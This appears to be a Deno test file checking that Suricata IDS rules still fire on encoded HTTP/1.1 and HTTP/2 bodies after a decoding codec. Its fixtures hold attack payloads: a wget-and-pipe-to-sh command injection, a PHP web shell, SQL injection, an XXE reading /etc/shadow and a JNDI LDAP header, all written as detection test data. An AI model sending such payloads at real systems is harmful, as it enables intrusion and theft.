// SPDX-License-Identifier: MIT
/**
 * An IDS sees no less with the codec than without: rules for 29 kinds of content fire as often on mirrors of encoded bodies, over
 * HTTP/1.1 and over HTTP/2, as on plain HTTP/1.1.
 */
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { brotliCompressSync, constants, deflateRawSync, gzipSync } from "node:zlib";
import type { Codec } from "../../../codecs/codec.ts";
import { decode } from "../../../codecs/decode/codec.ts";
import { http2to1 } from "../../../codecs/http2to1/codec.ts";
import { raw } from "../../../codecs/raw.ts";
import { judge, judgeMissing, judgeStrict } from "../../ids/judge.ts";
import { Recorder } from "../../support/capture.ts";
import { chained } from "../../support/codec_chain.ts";
import { CodecHarness } from "../../support/codec_harness.ts";
import { ENCODINGS, latin1, message } from "../../support/encoded_bodies.ts";
import {
  clientStart,
  data,
  END_STREAM,
  headers,
  request,
  response,
  serverStart,
} from "../../support/http2_frames.ts";
import { answer, ask } from "../../support/ids_flows.ts";
import { withTempDir } from "../../support/run.ts";
import { skipIf } from "../../support/skip.ts";

/** What is in every request's head, by the buffer that a rule looks at. */
const ASKED_HEAD = [
  ["method", `http.method; content:"POST"`],
  ["path", `http.uri; content:"/etc/passwd"`],
  ["raw path", `http.uri.raw; content:"/.%2e/"`],
  ["user agent", `http.user_agent; content:"sqlmap/1.7"`],
  ["host", `http.host; content:"victim.test"`],
  ["cookie", `http.cookie; content:"session=stolen"`],
  ["referer", `http.referer; content:"evil.test"`],
  ["header", `http.header; content:"jndi|3a|ldap"`],
  ["content type", `http.content_type; content:"text/plain"`],
] as const;
/** In every request's body: what a rule looks for is the content itself. */
const ASKED_BODY = {
  "SQL injection": "id=1' UNION SELECT password FROM users--",
  "XXE": `<!ENTITY xxe SYSTEM "file:///etc/shadow">`,
  "web shell upload": `<?php system($_GET['cmd']); ?>`,
  "deserialization": "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
  "command injection": "; wget http://203.0.113.9/x.sh -O- | sh",
  "template injection": "{{7*7}}${7*7}<%= 7*7 %>",
  "exfiltrated key": "-----BEGIN OPENSSH PRIVATE KEY-----",
  "credentials": `{"username":"root","password":"toor"}`,
} as const;
const ANSWERED_HEAD = [
  ["status", `http.stat_code; content:"200"`],
  ["server", `http.server; content:"Apache/2.4.49"`],
] as const;
const ANSWERED_BODY = {
  "script": "<script>eval(unescape('%u9090'))</script>",
  "hidden frame": `<iframe src="http://evil.test/" width=0 height=0>`,
  "Windows program": "MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode",
  "Linux program": "\x7fELF\x02\x01\x01",
  "document with macro": "AutoOpen() Shell(powershell -enc",
  "directory listing": "<title>Index of /backup</title>",
  "PDF": "%PDF-1.7 /OpenAction /JavaScript",
  "leaked password file": "root:x:0:0:root:/root:/bin/bash",
  "crypto miner": "stratum+tcp://pool.test:3333",
  "test virus": "X5O!P%@AP[4-PZX54(P^)7CC)7}$-ANTIVIRUS-TEST-FILE!$H+H*",
} as const;

const hex = (text: string) =>
  `|${[...latin1(text)].map((byte) => byte.toString(16).padStart(2, "0")).join(" ")}|`;
const bodyRules = (contents: Readonly<Record<string, string>>, buffers: readonly string[]) =>
  Object.entries(contents).map(([name, text], i) =>
    [name, `${buffers[i % buffers.length]}; content:"${hex(text)}"`] as const
  );
/** In two sets, as Suricata tells of 15 alerts a packet. */
const RULE_SETS = [
  [...toServer(ASKED_HEAD), ...toClient(ANSWERED_HEAD)],
  [
    ...toServer(bodyRules(ASKED_BODY, ["http.request_body", "file.data"])),
    ...toClient(bodyRules(ANSWERED_BODY, ["file.data", "http.response_body"])),
  ],
];
const NAMES = RULE_SETS.flat().map(([name]) => name);

type Rule = readonly [name: string, options: string];
function toServer(rules: readonly Rule[]): Rule[] {
  return rules.map(([name, options]) => [name, `flow:established,to_server; ${options}`]);
}
function toClient(rules: readonly Rule[]): Rule[] {
  return rules.map(([name, options]) => [name, `flow:established,to_client; ${options}`]);
}
const textOf = (rules: readonly Rule[]) =>
  rules.map(([name, options], i) =>
    `alert http any any -> any any (msg:"${name}"; ${options}; sid:${9000001 + i};)\n`
  ).join("");

const FILLER = "The quick brown fox jumps over the lazy dog. ".repeat(20);
const bodyOf = (contents: object) => latin1([FILLER, ...Object.values(contents), FILLER].join("\n"));
const ASKED = bodyOf(ASKED_BODY);
const ANSWERED = bodyOf(ANSWERED_BODY);
const PATH = "/cgi-bin/.%2e/etc/passwd";

type Fields = readonly (readonly [name: string, value: string])[];
const askedFields: Fields = [
  ["user-agent", "sqlmap/1.7"],
  ["cookie", "session=stolen"],
  ["referer", "http://evil.test/"],
  ["x-api-version", "${jndi:ldap://evil.test/a}"],
  ["content-type", "text/plain"],
];
const answeredFields: Fields = [["server", "Apache/2.4.49"], ["content-type", "text/html"]];

const title = (name: string) => name.replace(/(^|-)[a-z]/g, (letters) => letters.toUpperCase());
const lines = (fields: Fields) => fields.map(([name, value]) => `${title(name)}: ${value}`);

interface Encoded {
  readonly coding: string;
  readonly asked: Uint8Array;
  readonly answered: Uint8Array;
}
const PLAIN: Encoded = { coding: "", asked: ASKED, answered: ANSWERED };
const encoded = ([coding, encode]: (typeof ENCODINGS)[string]): Encoded => ({
  coding,
  asked: encode(ASKED),
  answered: encode(ANSWERED),
});
const encodingField = (coding: string): Fields => coding === "" ? [] : [["content-encoding", coding]];

function overHttp1(flow: CodecHarness, { coding, asked, answered }: Encoded): void {
  const encoding = encodingField(coding);
  const head = [`POST ${PATH} HTTP/1.1`, "Host: victim.test", ...lines([...askedFields, ...encoding])];
  flow.data(0, message(head, asked));
  flow.data(1, message(["HTTP/1.1 200 OK", ...lines([...answeredFields, ...encoding])], answered));
}

function overHttp2(flow: CodecHarness, { coding, asked, answered }: Encoded): void {
  const encoding = encodingField(coding).map(([name, value]) => [name, value] as [string, string]);
  const fields = (list: Fields) => list.map(([name, value]) => [name, value] as [string, string]);
  flow.data(0, clientStart()).data(1, serverStart());
  const head = request("POST", PATH, ...fields(askedFields), ...encoding).map(([name, value]) =>
    name === ":authority" ? [name, "victim.test"] as [string, string] : [name, value] as [string, string]
  );
  ask(flow, 1, head, asked);
  answer(flow, 1, response(200, ...fields(answeredFields), ...encoding), answered);
}

/** A capture of flows, each with a client address of its own. */
async function captured(
  codec: Codec,
  flows: readonly ((flow: CodecHarness) => void)[],
  use: (capture: string) => Promise<void>,
): Promise<void> {
  const recorder = new Recorder();
  for (const [i, run] of flows.entries()) {
    const client = { ip: Uint8Array.of(10, 1, 0, 1 + i), port: 40_000 + i };
    const key = { client, server: { ip: Uint8Array.of(10, 0, 0, 2), port: 80 } };
    const flow = new CodecHarness(codec, { recorder, key });
    run(flow);
    flow.end();
  }
  await withTempDir(async (folder) => {
    await Deno.writeFile(`${folder}/capture.pcapng`, recorder.bytes());
    await use(`${folder}/capture.pcapng`);
  });
}

/** How often each rule fired. */
async function fired(codec: Codec, flows: ((flow: CodecHarness) => void)[]): Promise<Record<string, number>> {
  const tally: Record<string, number> = {};
  await captured(codec, flows, async (capture) => {
    for (const set of RULE_SETS) {
      const { alerts } = await judge(capture, { rules: textOf(set) });
      for (const { signature } of alerts) tally[signature] = (tally[signature] ?? 0) + 1;
    }
  });
  return tally;
}

const ways = Object.values(ENCODINGS).map(encoded);
const MIRRORS: Readonly<Record<string, readonly [Codec, typeof overHttp1]>> = {
  "HTTP/1.1": [chained(decode()), overHttp1],
  "HTTP/1.1, gzip left to the IDS": [chained(decode({ gzip: false })), overHttp1],
  "HTTP/2": [chained(http2to1(), decode()), overHttp2],
};
const LEFT_GZIP = "HTTP/1.1, gzip left to the IDS";

Deno.test({
  name: `rules for ${NAMES.length} kinds of content fire on bodies in all encodings as on plain ones`,
  ...skipIf(judgeMissing()),
  async fn() {
    assert.equal(NAMES.length, 29);
    const plain = await fired(raw, ways.map(() => (flow) => overHttp1(flow, PLAIN)));
    assert.deepEqual(plain, Object.fromEntries(NAMES.map((name) => [name, ways.length])));
    for (const [name, [codec, run]] of Object.entries(MIRRORS)) {
      // Suricata reads the first member of gzip only.
      const shown = name === LEFT_GZIP ? ways.filter(({ coding }) => coding !== "x-gzip") : ways;
      const expected = Object.fromEntries(NAMES.map((rule) => [rule, shown.length]));
      assert.deepEqual(await fired(codec, shown.map((one) => (flow) => run(flow, one))), expected, name);
    }
  },
});

Deno.test({
  name: "without the codec rules miss bodies in br and zstd",
  ...skipIf(judgeMissing()),
  async fn() {
    const flows = ["br", "zstd"].map((name) => (flow: CodecHarness) =>
      overHttp2(flow, encoded(ENCODINGS[name]))
    );
    const found = await fired(chained(http2to1()), flows);
    assert.equal(found["script"], undefined);
    assert.equal(found["user agent"], 2);
  },
});

Deno.test({
  name: "Suricata finds nothing wrong with decoded exchanges, whole, streamed and behind others",
  ...skipIf(judgeMissing()),
  async fn() {
    const large = Buffer.alloc(90_000, "one line of a log\n");
    const flow = (run: CodecHarness) => {
      run.data(0, clientStart()).data(1, serverStart());
      for (let id = 1; id < 41; id += 2) {
        ask(run, id, request("GET", `/${id}`));
        answer(run, id, response(200, ["content-encoding", "br"]), brotliCompressSync(large));
      }
      ask(run, 41, request("GET", "/streamed"));
      answer(run, 41, response(200, ["content-encoding", "gzip"]), gzipSync(large).subarray(0, -4));
      ask(run, 43, request("HEAD", "/head"));
      answer(run, 43, response(200, ["content-encoding", "br"], ["content-length", "9"]));
      ask(run, 45, request("GET", "/rubbish"));
      answer(run, 45, response(200, ["content-encoding", "zstd"]), "no zstd at all");
      ask(run, 47, request("GET", "/last"));
      answer(run, 47, response(404), "plain");
    };
    await captured(chained(http2to1(), decode()), [flow], async (capture) => {
      const expect = [
        ...Array.from({ length: 20 }, (_, i) => ["GET", `/${1 + 2 * i}`, 200, 90_000] as const),
        ["GET", "/streamed", 200, 90_000],
        ["HEAD", "/head", 200, null],
        ["GET", "/rubbish", 200, 14],
        ["GET", "/last", 404, 5],
      ] as const;
      // A body that is none of its encoding is what the peer sent.
      const verdict = await judgeStrict(capture, { expect, allow: ["abnormal_ce", "content-encoding"] });
      assert.equal(verdict.depth_reached, 0);
    });
  },
});

Deno.test({
  name: "rules find what a WebSocket over HTTP/2 says, where that is asked for",
  ...skipIf(judgeMissing()),
  async fn() {
    const said = latin1("attack at dawn");
    const compressed = deflateRawSync(said, { finishFlush: constants.Z_SYNC_FLUSH }).subarray(0, -4);
    const frame = Buffer.concat([Buffer.of(0xc1, compressed.length), compressed]);
    const extensions: [string, string] = ["sec-websocket-extensions", "permessage-deflate"];
    const flow = (run: CodecHarness) => {
      run.data(0, clientStart()).data(1, serverStart());
      const connect: [string, string][] = [[":method", "CONNECT"], [":protocol", "websocket"]];
      const target: [string, string][] = [[":scheme", "https"], [":authority", "a.test"], [":path", "/chat"]];
      run.data(0, headers(1, [...connect, ...target, extensions])).data(
        1,
        headers(1, response(200, extensions)),
      );
      run.data(0, data(1, frame, END_STREAM)).data(1, data(1, frame, END_STREAM));
    };
    const rules = ["to_server", "to_client"].map((way, i) =>
      `alert tcp any any -> any any (msg:"${way}"; flow:${way}; content:"attack at dawn"; sid:${
        9000001 + i
      };)\n`
    ).join("");
    for (const websocket of [true, false]) {
      await captured(chained(http2to1(), decode({ websocket })), [flow], async (capture) => {
        const { alerts } = await judge(capture, { rules });
        const found = alerts.map(({ signature }) => signature).sort();
        assert.deepEqual(found, websocket ? ["to_client", "to_server"] : []);
      });
    }
  },
});
